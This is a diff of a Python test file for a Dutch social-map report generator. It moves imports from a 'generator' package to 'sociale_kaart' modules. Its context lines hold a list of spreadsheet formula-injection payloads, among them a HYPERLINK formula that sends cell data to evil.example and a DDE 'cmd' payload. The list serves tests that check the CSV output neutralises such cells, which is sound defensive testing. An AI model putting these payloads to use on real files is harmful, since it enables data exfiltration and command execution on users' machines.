@@ -10,10 +10,8 @@ from pathlib import Path
 
 import html5lib
 
-from generator.cli import main
-from generator.content import load_content
-from generator.loader import load_file
-from generator.rapport import (
+from sociale_kaart.cli import main
+from sociale_kaart.outputs.rapport import (
     GEEN_BEHEERDER,
     csv_tables,
     format_markdown,
@@ -24,7 +22,9 @@ from generator.rapport import (
     rapport_pages,
     write_csv,
 )
-from generator.resolve import check
+from sociale_kaart.pipeline.load import load_content
+from sociale_kaart.pipeline.resolve import check
+from sociale_kaart.pipeline.yaml_loader import load_file
 
 ROOT = Path(__file__).resolve().parent.parent
 FIXTURES = ROOT / "tests" / "fixtures" / "kaart"
@@ -230,7 +230,7 @@ def test_cli_refuses_broken_content(capsys, tmp_path: Path) -> None:
 # --------------------------------------------------------------------------- site pages
 
 def render_pages(kaart) -> dict[str, str]:
-    from generator.render import Assets, Page, Renderer, make_environment, theme_dirs
+    from sociale_kaart.site.render import Assets, Page, Renderer, make_environment, theme_dirs
 
     dirs = theme_dirs("default", None)
     renderer = Renderer(kaart, make_environment(dirs), Assets.load(dirs))
@@ -299,7 +299,7 @@ FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1;"Klik")', "+cmd|' /C calc'
 
 
 def _formula_cell(cell: str) -> bool:
-    """What a spreadsheet runs as a formula (checked here without generator.csvsafe)."""
+    """What a spreadsheet runs as a formula (checked here without sociale_kaart.outputs.csvsafe)."""
     import re
 
     first = cell.lstrip()
@@ -331,7 +331,7 @@ def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
 
 
 def test_safe_cell() -> None:
-    from generator.csvsafe import csv_text, safe_cell
+    from sociale_kaart.outputs.csvsafe import csv_text, safe_cell
 
     for risky in ("=A1", "+A1", "-A1", "@A1", "\tx", "\r=1", " =1+1", "\n@SUM(A1)", "-2+3",
                   "+31 6 12345678"):
@@ -342,7 +342,7 @@ def test_safe_cell() -> None:
 
 
 def test_every_csv_writer_goes_through_csvsafe() -> None:
-    generator = ROOT / "generator"
+    generator = ROOT / "sociale_kaart"
     writers = sorted(p.name for p in generator.rglob("*.py")
                      if any(w in p.read_text(encoding="utf-8")
                             for w in ("csv.writer(", "csv.DictWriter(", "csv.writer ")))
